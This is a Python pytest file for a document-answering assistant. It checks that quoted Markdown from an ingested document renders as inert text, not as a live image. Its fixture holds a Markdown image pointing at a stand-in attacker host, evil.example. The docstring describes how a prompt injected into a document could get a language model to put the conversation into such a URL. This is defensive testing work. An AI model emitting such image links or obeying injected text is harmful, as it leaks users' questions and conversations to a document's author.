"""Probe (session 29, h3): a document author's Markdown image in the assistant's answer.

The extractive answer quotes the passages it found word for word, Markdown included. LangGraph
Studio (the documented client of ``langgraph dev``) and chat UIs render an AI message as Markdown,
so a document holding ``![status](https://evil.example/pixel.png?doc=vpn)`` made every answer that
quoted it load that image from the reader's browser, with no click: its author learns who asked
what and when (and, with a language model writing the answer, a prompt injected into the document
can ask it to put the conversation into such a URL). The same session made the Markdown audit
report's excerpts inert (db8b12c, E5); a quote in an answer is data the same way.

In process (LangServe's ASGI app on one SQLite file, one small ingestion run with the hashing
embedder, the offline extractive responder); the answer rendered with CommonMark (markdown-it-py).
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from ingest_harness import opened
from server_harness import ACME_KEY, KEYS

from graph.assistant.services import Services
from graph.ingestion.runner import execute
from graph.ingestion.state import Settings
from knowledge.embedders import HashingEmbedder
from server.keys import KeyTable
from server.langserve_app import create_app

GUIDE = (
    "# VPN access guide\n\n## Connecting\n\nTo connect to the VPN, open the client and sign in. "
    "![status](https://evil.example/pixel.png?doc=vpn) Ask the service desk if it fails.\n"
)


@pytest.fixture(scope="module")
def answer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    tmp = tmp_path_factory.mktemp("answer-markdown")
    url = f"sqlite:///{tmp / 'kassist.db'}"
    docs = tmp / "docs"
    docs.mkdir()
    (docs / "vpn.md").write_text(GUIDE)
    with opened(url, tmp / "reports") as res:
        settings = Settings(source=str(docs), collection="kb", embedder="hashing")
        assert execute(res, "acme", "kb-run", settings=settings).state.status == "completed"
    mp = pytest.MonkeyPatch()
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL"):  # the offline extractive responder
        mp.delenv(name, raising=False)
    services = Services.from_url(url, embedder=HashingEmbedder())
    body = {
        "input": {"messages": [["user", "How do I connect to the VPN?"]]},
        "config": {"configurable": {"thread_id": "vpn"}},
    }
    try:
        with TestClient(
            create_app(url, KeyTable.model_validate({"keys": KEYS}), services=services)
        ) as client:
            done = client.post("/assistant/invoke", json=body, headers={"x-api-key": ACME_KEY})
            assert done.status_code == 200, done.text
            messages = done.json()["output"]["messages"]
            yield str([m for m in messages if m["type"] == "ai"][-1]["content"])
    finally:
        mp.undo()


def test_an_answer_quoting_a_document_loads_no_image(answer: str) -> None:
    from markdown_it import MarkdownIt

    assert "connect to the VPN" in answer, answer  # the passage is quoted ...
    html = MarkdownIt("commonmark").render(answer)
    assert "<img" not in html, html  # ... as text: no image a reader's browser would fetch
